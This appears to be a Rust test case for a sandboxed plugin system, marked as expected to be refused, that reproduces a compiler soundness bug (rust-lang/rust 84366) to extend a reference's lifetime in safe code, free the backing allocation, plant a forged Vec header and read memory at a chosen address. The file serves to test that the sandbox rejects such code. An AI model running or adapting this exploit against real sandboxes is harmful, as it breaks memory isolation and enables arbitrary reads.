//! expect: refused associated-bound
//! rust-lang/rust 84366: reads where it likes.
#![no_std]
#![forbid(unsafe_code)]
extern crate alloc;
use sandstorm_api::prelude::*;
use core::marker::PhantomData;
struct Wrap<'a, T>(PhantomData<&'a T>);
trait Ext: Sized { fn ext<'l>(self, _: Wrap<'l, Self>) -> &'l [u8]; }
impl Ext for &Vec<u8> { fn ext<'l>(self, _: Wrap<'l, Self>) -> &'l [u8] { self } }
trait Ext2: Sized { fn ext2<'l>(self, _: Wrap<'l, Self>) -> &'l Vec<u8>; }
impl Ext2 for &Vec<u8> { fn ext2<'l>(self, _: Wrap<'l, Self>) -> &'l Vec<u8> { self } }
fn mark<'l, I>(_: &I) -> Wrap<'l, I> { Wrap(PhantomData) }
fn launder<'l, I: Iterator<Item: Ext2>>(_: Wrap<'l, I>, x: I::Item) -> &'l Vec<u8> { x.ext2(Wrap(PhantomData)) }
fn extend<'a>(x: &'a Vec<u8>) -> &'static Vec<u8> {
    const E: &Vec<u8> = &Vec::new();
    let it = core::iter::repeat_with(|| -> &'a Vec<u8> { E });
    launder(mark(&it), x)
}
fn attack(at: u64) -> usize {
    let b = Box::new(Vec::<u8>::new());
    let r = core::hint::black_box(extend(&b));
    core::hint::black_box(&b);
    drop(b);
    let fake: Box<[u64; 3]> = Box::new([at, at, at]);
    core::hint::black_box(&fake);
    let n = r.iter().take(4).fold(0usize, |a, b| a * 256 + *b as usize);
    drop(fake);
    n
}
pub async fn run(db: Db<'_>, args: &[u8]) -> Result<(), Error> { let n = attack(0x4141_4141_4141); db.reply(format!("{n:x}").as_bytes()) }
